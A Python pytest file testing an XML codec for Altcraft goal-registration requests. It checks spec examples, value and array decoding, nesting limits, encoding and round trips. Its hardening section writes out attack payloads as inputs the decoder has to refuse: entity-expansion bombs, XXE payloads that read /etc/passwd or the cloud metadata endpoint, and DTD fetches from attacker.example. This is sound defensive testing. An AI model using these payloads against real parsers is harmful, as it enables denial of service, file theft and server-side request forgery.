"""Tests for goalline.codecs.xml: the Altcraft XML request/reply codec."""

from __future__ import annotations

import json
from typing import Any

import pytest

from goalline.codecs.xml import MAX_DEPTH, decode, encode
from goalline.errors import InvalidRequest

from conftest import example

GOAL_ARRAYS = frozenset({"goals", "categories"})
PROLOG = b'<?xml version="1.0" encoding="UTF-8"?>\n'

# --- Request examples, verbatim from the Altcraft goals/register page -------------------------

# "1 goal, no original request header data used"
EXAMPLE_1 = example("1-goal.xml")

# "2 goals, IP and referer from the original request head are used"
EXAMPLE_2 = example("2-goals.xml")

# "Example of a request to send additional information about an event"
EXAMPLE_3 = example("full.xml")

# The JSON twin of EXAMPLE_3, from the same page.
EXAMPLE_3_JSON = example("full.json").decode()

ENTITIES_REFUSED = "body: XML entities and DTDs are not allowed"
NOT_UTF8 = "body: not well-formed XML (not valid UTF-8)"


def _invalid(body: bytes, arrays: frozenset[str] = frozenset()) -> InvalidRequest:
    with pytest.raises(InvalidRequest) as info:
        decode(body, arrays)
    assert info.value.code == 400
    assert info.value.status == 400
    return info.value


def _doc(inner: str) -> bytes:
    return f"<xml>{inner}</xml>".encode()


def _stringify(value: Any) -> Any:
    """What a decoded round trip yields: scalars as their XML text, None dropped."""
    if isinstance(value, dict):
        return {k: _stringify(v) for k, v in value.items() if v is not None}
    if isinstance(value, list):
        return [_stringify(v) for v in value if v is not None]
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return str(value)
    return value


# --- decode: the spec examples -----------------------------------------------------------------


def test_example_1_single_goal() -> None:
    assert decode(EXAMPLE_1, GOAL_ARRAYS) == {
        "token": "2fefb577533d4cae919350c450755239",
        "db_id": "1",
        "goal": "card",
        "pixel_id": "1",
        "referer": "api.example.com",
        "value": "-25.5",
        "matching": "profile_id",
        "profile_id": "65d49bc74a6f1407ac656547",
    }


def test_example_2_two_goals() -> None:
    assert decode(EXAMPLE_2, GOAL_ARRAYS) == {
        "token": "abcdefghijklmnqrstuvwxyz",
        "client_ip": "10.20.30.40",
        "db_id": "24",
        "goals": [{"goal": "cart", "value": "10.99"}, {"goal": "two", "value": "-12.34"}],
        "pixel_id": "7",
        "matching": "profile_id",
        "profile_id": "abcdefghijklmnqrstuvwxyz",
        "referer": "api.req.from.my.site",
    }


def test_example_3_event_with_pixel_data() -> None:
    data = decode(EXAMPLE_3, GOAL_ARRAYS)
    assert data["goals"] == [
        {"goal": "cart", "value": "10.99"},
        {"goal": "two", "value": "-12.34"},
    ]
    assert data["categories"] == ["category_KBZ1qurFP"]
    assert data["pixel_data"] == {
        "hello": "hi",
        "arr": ["1", "2", "3"],
        "int_val": "56893",
        "bool_val": "true",
        "date_val": "2023-08-12",
    }
    assert data["skip_triggers"] == "false"
    assert data["count_items"] == "1"
    assert data["lat"] == "55.244075"
    assert data["accept_language"] == "fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5"
    assert data["client_ip_v6"] == "fe80::5215:5556:d75f:806b"
    assert list(data)[:4] == ["token", "db_id", "goals", "client_ip"]


def test_example_3_matches_its_json_twin() -> None:
    assert decode(EXAMPLE_3, GOAL_ARRAYS) == _stringify(json.loads(EXAMPLE_3_JSON))


def test_example_3_without_arrays_keeps_single_category_scalar() -> None:
    assert decode(EXAMPLE_3)["categories"] == "category_KBZ1qurFP"


def test_single_goals_element_is_still_a_list() -> None:
    body = _doc("<db_id>1</db_id><goals><goal>cart</goal><value>10.99</value></goals>")
    assert decode(body, GOAL_ARRAYS) == {
        "db_id": "1",
        "goals": [{"goal": "cart", "value": "10.99"}],
    }
    assert decode(body)["goals"] == {"goal": "cart", "value": "10.99"}


# --- decode: hardening -------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE xml [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<xml><goal>&lol9;</goal></xml>
"""

QUADRATIC_BLOWUP = (
    b'<?xml version="1.0"?>\n<!DOCTYPE xml [<!ENTITY a "'
    + b"x" * 50_000
    + b'">]>\n<xml><goal>'
    + b"&a;" * 5_000
    + b"</goal></xml>"
)

XXE_FILE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><goal>&xxe;</goal></xml>"""

XXE_HTTP = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>
<xml><goal>&xxe;</goal></xml>"""

XXE_PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<xml><goal>x</goal></xml>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd">
<xml><goal>x</goal></xml>"""

PLAIN_DOCTYPE = b"<!DOCTYPE xml><xml><goal>x</goal></xml>"


@pytest.mark.parametrize(
    "body",
    [
        BILLION_LAUGHS,
        QUADRATIC_BLOWUP,
        XXE_FILE,
        XXE_HTTP,
        XXE_PARAMETER_ENTITY,
        EXTERNAL_DTD,
        PLAIN_DOCTYPE,
    ],
    ids=[
        "billion-laughs",
        "quadratic-blowup",
        "xxe-file",
        "xxe-http",
        "xxe-parameter-entity",
        "external-dtd",
        "plain-doctype",
    ],
)
def test_entity_and_dtd_attacks_refused(body: bytes) -> None:
    assert _invalid(body).text == ENTITIES_REFUSED
    assert str(_invalid(body)) == ENTITIES_REFUSED


@pytest.mark.parametrize(
    ("body", "got"),
    [
        (b"<root><goal>x</goal></root>", "root"),
        (b"<XML><goal>x</goal></XML>", "XML"),
        (b'<ns:request xmlns:ns="urn:x"><goal>x</goal></ns:request>', "request"),
        (b"<goals/>", "goals"),
    ],
)
def test_wrong_root_refused(body: bytes, got: str) -> None:
    assert _invalid(body).text == f"body: XML root element must be <xml>, got <{got}>"


def test_namespaced_xml_root_accepted() -> None:
    body = b'<xml xmlns="urn:altcraft" xmlns:p="urn:p"><p:goal>x</p:goal><db_id>1</db_id></xml>'
    assert decode(body) == {"goal": "x", "db_id": "1"}


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"   \n ",
        b"not xml at all",
        b"<xml>",
        b"<xml><goal>x</xml>",
        b"<xml><goal>x</db_id></xml>",
        b"<xml></xml><xml></xml>",
        b"<xml><goal>a & b</goal></xml>",
        b"<xml><goal>&nbsp;</goal></xml>",
        b"<xml><goal>a\x00b</goal></xml>",
        b"<xml><goal>\x01</goal></xml>",
        b'<xml><goal a="1" a="2">x</goal></xml>',
        b"<xml><p:goal>x</p:goal></xml>",
        b"<xml>\n</xml>trailing",
        b'{"goal": "x"}',
    ],
)
def test_malformed_xml_refused(body: bytes) -> None:
    text = _invalid(body).text
    assert text.startswith("body: not well-formed XML (")
    assert text.endswith(")")
    assert len(text) > len("body: not well-formed XML ()")


@pytest.mark.parametrize(
    "body",
    [
        b"<xml><goal>caf\xe9</goal></xml>",  # Latin-1
        b"\xff\xfe<\x00x\x00m\x00l\x00/\x00>\x00",  # UTF-16 with BOM
        b"\x80\x81\x82\xfe\xff",
        b"<xml><goal>\xc3</goal></xml>",  # truncated UTF-8 sequence
        b"<xml><goal>\xed\xa0\x80</goal></xml>",  # encoded surrogate
    ],
)
def test_non_utf8_bytes_refused(body: bytes) -> None:
    assert _invalid(body).text == NOT_UTF8


def test_declared_encoding_is_ignored_body_is_always_utf8() -> None:
    body = '<?xml version="1.0" encoding="ISO-8859-1"?><xml><goal>café</goal></xml>'.encode()
    assert decode(body) == {"goal": "café"}


# --- decode: document shape --------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        b"<xml><goal>x</goal></xml>",
        b'<?xml version="1.0" encoding="UTF-8"?><xml><goal>x</goal></xml>',
        b'<?xml version="1.0" encoding="UTF-8"?>\n<xml><goal>x</goal></xml>\n',
        b"\xef\xbb\xbf<xml><goal>x</goal></xml>",
        b'\xef\xbb\xbf<?xml version="1.0" encoding="UTF-8"?>\r\n<xml><goal>x</goal></xml>',
        b'\n\t  <?xml version="1.0" encoding="utf-8" standalone="yes"?>\n'
        b"<xml><goal>x</goal></xml>  ",
        b"\xef\xbb\xbf \n<xml><goal>x</goal></xml>\n\n",
        b" \xef\xbb\xbf<xml><goal>x</goal></xml>",
        b"<!-- a comment --><xml><!-- inside --><goal>x</goal></xml>",
        b'<?xml version="1.0"?><?some-pi data?><xml><goal>x</goal></xml>',
        b"<xml>\n  <goal>x</goal>\n</xml>",
    ],
)
def test_prolog_bom_whitespace_and_comments_accepted(body: bytes) -> None:
    assert decode(body) == {"goal": "x"}


@pytest.mark.parametrize(
    "body",
    [b"<xml/>", b"<xml></xml>", b"<xml>  \n\t </xml>", b'<xml array="true"/>'],
)
def test_empty_root_is_empty_mapping(body: bytes) -> None:
    assert decode(body) == {}


def test_root_with_only_text_refused() -> None:
    assert _invalid(b"<xml>hello</xml>").text == (
        "body: XML root element must contain child elements, not text"
    )


@pytest.mark.parametrize(
    ("inner", "expected"),
    [
        ("<goal/>", {"goal": None}),
        ("<goal></goal>", {"goal": None}),
        ("<goal>   </goal>", {"goal": None}),
        ("<goal>\n\t\r\n </goal>", {"goal": None}),
        ('<goal some="attr"/>', {"goal": None}),
        ("<goal>  cart  </goal>", {"goal": "  cart  "}),
        ("<goal>a  b</goal>", {"goal": "a  b"}),
        ("<goal>\u00a0</goal>", {"goal": "\u00a0"}),
        ("<goal>0</goal>", {"goal": "0"}),
        ("<goal>false</goal>", {"goal": "false"}),
        ("<goal>&lt;b&gt; &amp; &quot;q&quot; &apos;</goal>", {"goal": '<b> & "q" \''}),
        ("<goal>&#233;&#x263A;</goal>", {"goal": "é☺"}),
        ("<goal><![CDATA[<not> & parsed]]></goal>", {"goal": "<not> & parsed"}),
        ("<goal>ca<!-- c -->rt</goal>", {"goal": "cart"}),
        ("<pixel_data><a/><b> </b></pixel_data>", {"pixel_data": {"a": None, "b": None}}),
        ("<pixel_data>\n  <a>1</a>\n</pixel_data>", {"pixel_data": {"a": "1"}}),
        ("<a><b><c>deep</c></b></a>", {"a": {"b": {"c": "deep"}}}),
    ],
)
def test_element_values(inner: str, expected: dict[str, Any]) -> None:
    assert decode(_doc(inner)) == expected


def test_values_stay_strings() -> None:
    data = decode(_doc("<db_id>1</db_id><is_test>true</is_test><value>-25.5</value>"))
    assert data == {"db_id": "1", "is_test": "true", "value": "-25.5"}
    assert all(type(v) is str for v in data.values())


def test_keys_keep_document_order() -> None:
    assert list(decode(_doc("<c>1</c><a>2</a><b>3</b>"))) == ["c", "a", "b"]


@pytest.mark.parametrize(
    ("inner", "expected"),
    [
        ("<arr>1</arr><arr>2</arr><arr>3</arr>", {"arr": ["1", "2", "3"]}),
        ("<arr>1</arr><x>y</x><arr>2</arr>", {"arr": ["1", "2"], "x": "y"}),
        ("<arr>1</arr><arr/>", {"arr": ["1", None]}),
        ("<arr/><arr/>", {"arr": [None, None]}),
        (
            "<g><n>a</n></g><g><n>b</n><v>1</v></g>",
            {"g": [{"n": "a"}, {"n": "b", "v": "1"}]},
        ),
        ("<p><arr>1</arr><arr>2</arr></p>", {"p": {"arr": ["1", "2"]}}),
    ],
)
def test_repeated_elements_become_lists(inner: str, expected: dict[str, Any]) -> None:
    assert decode(_doc(inner)) == expected


ARRAYS = frozenset({"goals", "categories", "phones"})


@pytest.mark.parametrize(
    ("inner", "expected"),
    [
        ("<categories>a</categories>", {"categories": ["a"]}),
        ("<categories/>", {"categories": []}),
        ("<categories></categories>", {"categories": []}),
        ("<categories> \n </categories>", {"categories": []}),
        ("<categories>a</categories><categories/>", {"categories": ["a"]}),
        (
            "<categories/><categories>a</categories><categories>b</categories>",
            {"categories": ["a", "b"]},
        ),
        ("<goals><goal>x</goal></goals>", {"goals": [{"goal": "x"}]}),
        ("<goals/>", {"goals": []}),
        ("<pixel_data><phones>+7900</phones></pixel_data>", {"pixel_data": {"phones": ["+7900"]}}),
        ("<a><b><phones/></b></a>", {"a": {"b": {"phones": []}}}),
        ('<c:phones xmlns:c="urn:c">1</c:phones>', {"phones": ["1"]}),
        ("<phone>1</phone>", {"phone": "1"}),
    ],
)
def test_array_names_are_always_lists(inner: str, expected: dict[str, Any]) -> None:
    assert decode(_doc(inner), ARRAYS) == expected


@pytest.mark.parametrize(
    ("inner", "expected"),
    [
        ('<tags array="true">a</tags>', {"tags": ["a"]}),
        ('<tags array="true"/>', {"tags": []}),
        ('<tags array="true"></tags><other>x</other>', {"tags": [], "other": "x"}),
        ('<tags array="true"><k>v</k></tags>', {"tags": [{"k": "v"}]}),
        ('<tags>a</tags><tags array="true"/>', {"tags": ["a"]}),
        ('<tags array="true">a</tags><tags>b</tags>', {"tags": ["a", "b"]}),
        ('<p><tags array="true">a</tags></p>', {"p": {"tags": ["a"]}}),
        ('<tags array="false">a</tags>', {"tags": "a"}),
        ('<tags array="1">a</tags>', {"tags": "a"}),
        ('<tags kind="x" id="3">a</tags>', {"tags": "a"}),
    ],
)
def test_array_attribute(inner: str, expected: dict[str, Any]) -> None:
    assert decode(_doc(inner)) == expected


@pytest.mark.parametrize(
    ("inner", "path"),
    [
        ("<pixel_data>oops<arr>1</arr></pixel_data>", "pixel_data"),
        ("<pixel_data><arr>1</arr>oops</pixel_data>", "pixel_data"),
        ("<pixel_data><arr>1</arr> oops <hi>x</hi></pixel_data>", "pixel_data"),
        ("<pixel_data><arr>x<y>1</y></arr></pixel_data>", "pixel_data.arr"),
        ("<a><b><c>t<d/></c></b></a>", "a.b.c"),
        ("<goals><goal>a</goal></goals><goals>t<goal>b</goal></goals>", "goals[1]"),
        ("<goals><v>1<w/></v></goals>", "goals[0].v"),
    ],
)
def test_mixed_content_refused(inner: str, path: str) -> None:
    error = _invalid(_doc(inner), GOAL_ARRAYS)
    assert error.text == f"{path}: element has both text and child elements"


def test_mixed_content_in_root_refused() -> None:
    assert _invalid(b"<xml>text<goal>x</goal></xml>").text == (
        "body: element has both text and child elements"
    )
    assert _invalid(b"<xml><goal>x</goal>tail</xml>").text == (
        "body: element has both text and child elements"
    )


def _nested(levels: int, leaf: str = "v") -> bytes:
    """A document ``levels`` elements deep, counting ``<xml>`` as the first level."""
    names = [f"l{i}" for i in range(levels - 1)]
    opening = "".join(f"<{n}>" for n in names)
    closing = "".join(f"</{n}>" for n in reversed(names))
    return _doc(opening + leaf + closing)


def test_depth_limit_is_32() -> None:
    assert MAX_DEPTH == 32


@pytest.mark.parametrize("leaf", ["v", ""])
def test_nesting_at_the_limit_accepted(leaf: str) -> None:
    data: Any = decode(_nested(MAX_DEPTH, leaf))
    for i in range(MAX_DEPTH - 1):
        data = data[f"l{i}"]
    assert data == (leaf or None)


@pytest.mark.parametrize(
    ("levels", "leaf"),
    [(MAX_DEPTH + 1, "v"), (MAX_DEPTH + 1, ""), (MAX_DEPTH + 1, "<e/>"), (5_000, "v")],
)
def test_nesting_deeper_than_limit_refused(levels: int, leaf: str) -> None:
    assert _invalid(_nested(levels, leaf)).text == "body: XML nested deeper than 32 levels"


def test_depth_counts_inside_lists() -> None:
    assert decode(_doc("<goals/>" + "<goals><a/></goals>"))["goals"] == [None, {"a": None}]
    inner = _nested(MAX_DEPTH)[len(b"<xml>") : -len(b"</xml>")].decode()
    assert _invalid(_doc(f"<w>{inner}</w><w>x</w>")).text.endswith("deeper than 32 levels")


# --- encode ------------------------------------------------------------------------------------


def test_encode_success_reply_exactly() -> None:
    assert encode({"error": 0, "error_text": "Successful operation"}) == (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b"<xml><error>0</error><error_text>Successful operation</error_text></xml>"
    )


@pytest.mark.parametrize(
    ("obj", "inner"),
    [
        ({}, b""),
        ({"a": True}, b"<a>true</a>"),
        ({"a": False}, b"<a>false</a>"),
        ({"a": 0}, b"<a>0</a>"),
        ({"a": 1}, b"<a>1</a>"),
        ({"a": -42}, b"<a>-42</a>"),
        ({"a": 10**20}, b"<a>100000000000000000000</a>"),
        ({"a": -25.5}, b"<a>-25.5</a>"),
        ({"a": 10.99}, b"<a>10.99</a>"),
        ({"a": 55.244075}, b"<a>55.244075</a>"),
        ({"a": 3.0}, b"<a>3.0</a>"),
        ({"a": 0.1 + 0.2}, b"<a>0.30000000000000004</a>"),
        ({"a": None}, b""),
        ({"a": None, "b": 1}, b"<b>1</b>"),
        ({"a": []}, b""),
        ({"a": ()}, b""),
        ({"a": [1, 2, 3]}, b"<a>1</a><a>2</a><a>3</a>"),
        ({"a": (1, "x")}, b"<a>1</a><a>x</a>"),
        ({"a": [1, None, 2]}, b"<a>1</a><a>2</a>"),
        ({"a": [True, 1.5, "s"]}, b"<a>true</a><a>1.5</a><a>s</a>"),
        (
            {"goals": [{"goal": "cart", "value": 10.99}, {"goal": "two"}]},
            b"<goals><goal>cart</goal><value>10.99</value></goals><goals><goal>two</goal></goals>",
        ),
        ({"p": {"q": {"r": 1}, "s": "t"}}, b"<p><q><r>1</r></q><s>t</s></p>"),
        ({"p": {}}, b"<p></p>"),
        ({"a": ""}, b"<a></a>"),
        ({"a": "  spaced  "}, b"<a>  spaced  </a>"),
        ({"a": "a<b&c>d"}, b"<a>a&lt;b&amp;c&gt;d</a>"),
        ({"a": "</a><evil/>"}, b"<a>&lt;/a&gt;&lt;evil/&gt;</a>"),
        ({"a": "&amp;"}, b"<a>&amp;amp;</a>"),
        ({"a": "line\nbreak"}, b"<a>line\nbreak</a>"),
        ({"a": "cr\r"}, b"<a>cr&#13;</a>"),
        ({"a": "bad\x00\x01\x1b"}, "<a>bad\ufffd\ufffd\ufffd</a>".encode()),
        ({"a": "café ☺"}, "<a>café ☺</a>".encode()),
        ({"z": 1, "a": 2, "m": 3}, b"<z>1</z><a>2</a><m>3</m>"),
        ({"n.a-me_1": 1, "_x": 2, "é": 3}, "<n.a-me_1>1</n.a-me_1><_x>2</_x><é>3</é>".encode()),
    ],
)
def test_encode_values(obj: dict[str, Any], inner: bytes) -> None:
    out = encode(obj)
    assert isinstance(out, bytes)
    assert out == PROLOG + b"<xml>" + inner + b"</xml>"


def test_encode_bool_is_not_treated_as_int() -> None:
    assert b"<a>true</a>" in encode({"a": True})
    assert b"<a>1</a>" not in encode({"a": True})


def test_encode_has_no_newline_inside_root() -> None:
    out = encode({"a": {"b": [1, 2]}, "c": "x"})
    assert out.startswith(PROLOG)
    assert b"\n" not in out[len(PROLOG) :]


def test_encode_output_is_utf8_and_well_formed() -> None:
    out = encode({"error": 400, "error_text": "goal: <bad> & \x00 \ud800 ☺"})
    text = out.decode("utf-8")
    assert text.startswith('<?xml version="1.0" encoding="UTF-8"?>')
    assert decode(out) == {"error": "400", "error_text": "goal: <bad> & \ufffd \ufffd ☺"}


@pytest.mark.parametrize("key", ["", "1abc", "-a", ".a", "a b", "a:b", "<a>", "a/b", "a&b", "a\n"])
def test_encode_invalid_key_raises(key: str) -> None:
    with pytest.raises(ValueError, match="not a valid XML element name"):
        encode({key: 1})


@pytest.mark.parametrize("key", ["", "1abc", "a b", "<a>", "a&b"])
def test_a_nested_object_xml_cannot_spell_is_one_json_text(key: str) -> None:
    """pixel_data sent as JSON may have keys that are no element names: the reply carries the
    object as JSON text instead of failing."""
    out = decode(encode({"ok": {key: 1, "b": [1, [2]]}, "n": 2}))
    assert out == {"ok": json.dumps({key: 1, "b": [1, [2]]}, separators=(",", ":")), "n": "2"}


def test_encode_non_str_key_raises() -> None:
    with pytest.raises(ValueError, match="not a valid XML element name"):
        encode({1: "x"})  # type: ignore[dict-item]


@pytest.mark.parametrize("value", [float("nan"), float("inf"), float("-inf")])
def test_encode_non_finite_float_raises(value: float) -> None:
    with pytest.raises(ValueError, match="not a finite number"):
        encode({"a": value})


@pytest.mark.parametrize("value", [object(), {1, 2}, b"bytes"])
def test_encode_unsupported_type_raises(value: object) -> None:
    with pytest.raises(TypeError, match="unsupported type"):
        encode({"a": value})


def test_encode_nested_list_raises() -> None:
    with pytest.raises(ValueError, match="a list directly inside a list"):
        encode({"a": [[1, 2]]})


def test_encode_non_mapping_raises() -> None:
    with pytest.raises(TypeError, match="need a mapping"):
        encode([("a", 1)])  # type: ignore[arg-type]


# --- round trip --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "obj",
    [
        {"error": 0, "error_text": "Successful operation"},
        {"error": 400, "error_text": "goals[1].goal: longer than 128 characters"},
        {"a": True, "b": False, "c": -7, "d": -25.5, "e": 3.0, "f": "text with  spaces"},
        {"goals": [{"goal": "cart", "value": 10.99}], "categories": ["c1"], "phones": ["1", "2"]},
        {"pixel_data": {"hello": "hi", "arr": [1, 2, 3], "nested": {"deep": {"er": "x"}}}},
        {"escaped": "<tag> & 'quote' \"dq\"", "cr": "a\r\nb", "unicode": "Рязань ☺"},
        {"skip": None, "kept": 1},
        json.loads(EXAMPLE_3_JSON),
    ],
)
def test_round_trip(obj: dict[str, Any]) -> None:
    assert decode(encode(obj), ARRAYS) == _stringify(obj)


def test_empty_list_does_not_survive_a_round_trip() -> None:
    # encode writes nothing for [], so the key comes back absent, never as [].
    assert decode(encode({"goals": [], "x": "y"}), ARRAYS) == {"x": "y"}


def test_round_trip_of_decoded_example() -> None:
    data = decode(EXAMPLE_3, GOAL_ARRAYS)
    assert decode(encode(data), GOAL_ARRAYS) == data
